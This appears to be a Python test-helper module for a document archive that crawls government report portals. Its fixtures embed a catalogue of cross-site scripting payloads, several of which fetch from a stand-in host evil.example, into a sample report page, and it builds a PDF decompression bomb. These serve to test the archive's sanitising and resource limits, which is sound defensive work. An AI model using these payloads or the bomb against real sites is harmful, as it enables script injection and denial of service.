"""Archives for the tests of originals, histories and mementos: documents of every format, a portal that changes."""

from __future__ import annotations

import zlib
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

from starlette.testclient import TestClient

from archive.imports import import_files
from archive.store import Archive
from tests.archive.county import article, crawl, figures_of

DOCUMENTS = Path(__file__).parents[1] / "documents"
WHEN = datetime(2025, 2, 1, 8, tzinfo=UTC)
BUREAU, OTHER = "示例县教育局", "示例县民政局"
URL = "http://www.shili.example/zfxxgknb/202501/t20250120_1.html"
GONE = "http://www.shili.example/zfxxgknb/202501/t20250120_2.html"

ATTACKS = """
<script>window.pwned = 1; fetch('http://evil.example/script')</script>
<img src="http://evil.example/img.png" onerror="window.pwned = 1"><img src=x onerror=alert(1)>
<a href="javascript:window.pwned=1" onclick="window.pwned = 1">甲</a><a href=" java&#10;script:alert(1)">乙</a>
<a href="data:text/html,<script>alert(1)</script>">丙</a><a href="//evil.example/x" target="_top">丁</a>
<svg onload="window.pwned = 1"><a xlink:href="javascript:alert(1)"><text>戊</text></a><style>@import 'http://evil.example/s.css'</style></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></mglyph></table></mtext></math>
<style>body { background: url(http://evil.example/style.png) }</style><link rel="stylesheet" href="http://evil.example/l.css">
<iframe src="http://evil.example/frame"></iframe><object data="http://evil.example/o"></object><embed src="http://evil.example/e">
<form action="http://evil.example/form"><input name="a" value="b"><button formaction="javascript:alert(1)">己</button></form>
<div style="background-image: url(http://evil.example/div.png); position: fixed; inset: 0">庚</div>
<video src="http://evil.example/v" autoplay></video><audio src="http://evil.example/a" autoplay></audio>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<p id="main" onmouseover="window.pwned = 1" tabindex="1" autofocus onfocus="window.pwned = 1">辛</p>
<table background="http://evil.example/t.png"><tr><td id="w0" background="http://evil.example/td.png">壬 id="w3" &lt;td id="w4"&gt;</td></tr></table>
<div style="display:none">看不见的字</div><xmp><script>window.pwned = 1</script></xmp><plaintext><script>window.pwned=1</script>
"""  # noqa: E501
HEAD = (
    '<meta http-equiv="refresh" content="0;url=http://evil.example/refresh"><base href="http://evil.example/base/">'
    '<meta http-equiv="Content-Security-Policy" content="script-src * \'unsafe-inline\'">'
)


def hostile_page() -> bytes:
    """A report that can be read, with every attack between its paragraphs and its tables."""
    page = article("示例县信访局", 2024, figures_of(5)).payload.decode()
    before, tables = page.split("<table>", 1)
    footer = '</div>\n<div class="footer">'
    assert footer in tables
    return f"{before.replace('<head>', '<head>' + HEAD)}<table>{tables.replace(footer, ATTACKS + footer)}".encode()


def pdf_of(*objects: bytes) -> bytes:
    """Objects 1, 2 … of a PDF, of which the first is the catalogue → the file."""
    out, places = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    head = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    tail = b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, len(out))
    return out + head + table + tail


def bomb() -> bytes:
    """A PDF of seven megabytes whose one page unpacks to more than any child may have."""
    block, packer, check = b" " * 2**24, zlib.compressobj(1, wbits=-15), 1
    piece = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)  # the same each time: nothing before it counts
    for _ in range(100):
        check = zlib.adler32(block, check)
    packed = b"\x78\x01" + piece * 100 + packer.flush() + check.to_bytes(4, "big")
    return pdf_of(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << >> >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (len(packed), packed),
    )


def keep_documents(folder: Path, paths: list[Path]) -> None:
    """Takes files into an archive, made where there is none."""
    with Archive.open(folder, write=True) as archive:
        import_files(archive, paths, None, WHEN)


def keep_portal(folder: Path) -> None:
    """Three crawls: one report is edited at the second, another is gone from the third on."""
    first, second = figures_of(3), figures_of(3) | {"requests.received.total": "77"}
    with Archive.open(folder, write=True) as archive:
        for day, portal in enumerate(
            (
                {URL: article(BUREAU, 2024, first), GONE: article(OTHER, 2024, figures_of(4))},
                {URL: article(BUREAU, 2024, second, note="新增一句。"), GONE: article(OTHER, 2024, figures_of(4))},
                {URL: article(BUREAU, 2024, second, note="新增一句。")},
                {URL: article(BUREAU, 2024, second, note="新增一句。")},
            )
        ):
            crawl(archive, day, portal)


def wait_for(client: TestClient, address: str) -> Any:
    """An address → its answer, when what it needs has been made: as a browser follows, or a program asks again."""
    for _ in range(40):
        answer = client.get(address)
        while answer.status_code == 302 and "try=" in answer.headers["location"]:
            answer = client.get(answer.headers["location"])
        if answer.status_code != 503:
            return answer
    return answer


def rows_of(folder: Path, sql: str, **given: object) -> list[tuple[Any, ...]]:
    """What the archive's tables say."""
    with Archive.open(folder, write=False) as archive:
        return list(archive.db.execute(sql, given).fetchall())
